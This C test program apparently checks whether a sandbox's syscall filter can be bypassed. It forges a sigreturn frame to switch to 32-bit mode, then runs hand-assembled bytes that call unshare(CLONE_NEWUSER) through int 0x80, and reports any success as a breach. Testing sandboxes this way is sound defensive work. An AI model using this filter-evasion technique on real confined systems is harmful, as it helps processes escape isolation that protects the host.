// rt_sigreturn loads every register from memory that the program wrote, the code segment among them: 32-bit mode without a far jump.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <ucontext.h>

static int breaches;

static void breach(const char *what) {
    printf("BREACH: %s\n", what);
    fflush(stdout);
    breaches = 1;
}

static void refused(const char *what) {
    const char *name = strerrorname_np(errno);
    printf("refused: %s %s\n", name ? name : "E?", what);
    fflush(stdout);
}
static unsigned char *low;

static void handler(int number, siginfo_t *info, void *context) {
    (void)number;
    (void)info;
    ucontext_t *frame = context;
    frame->uc_mcontext.gregs[REG_RIP] = (uintptr_t)low;
    frame->uc_mcontext.gregs[REG_RSP] = (uintptr_t)low + 8192;
    // The code segment is the low 16 bits.
    frame->uc_mcontext.gregs[REG_CSGSFS] = (frame->uc_mcontext.gregs[REG_CSGSFS] & ~0xffffL) | 0x23;
}

int main(void) {
    alarm(15);
    low = mmap(NULL, 16384, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    // unshare(CLONE_NEWUSER) by the 32-bit table; then exit(result < 0 ? 0 : 1), also by it, then by a trap.
    const unsigned char code[] = {0xb8, 0x36, 1, 0, 0, 0xbb, 0, 0, 0, 0x10, 0xcd, 0x80, 0x89, 0xc3, 0xf7, 0xd3, 0xc1, 0xeb, 0x1f,
                                  0xb8, 1, 0, 0, 0, 0xcd, 0x80, 0x0f, 0x0b};
    memcpy(low, code, sizeof code);
    pid_t child = fork();
    if (child == 0) {
        struct sigaction action = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO};
        sigaction(SIGUSR1, &action, NULL);
        raise(SIGUSR1);
        _exit(3);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) printf("ended by signal %d\n", WTERMSIG(status));
    else if (WEXITSTATUS(status) == 1) breach("a new user namespace from a forged frame");
    else printf("refused: the exit code was %d\n", WEXITSTATUS(status));
    return breaches;
}
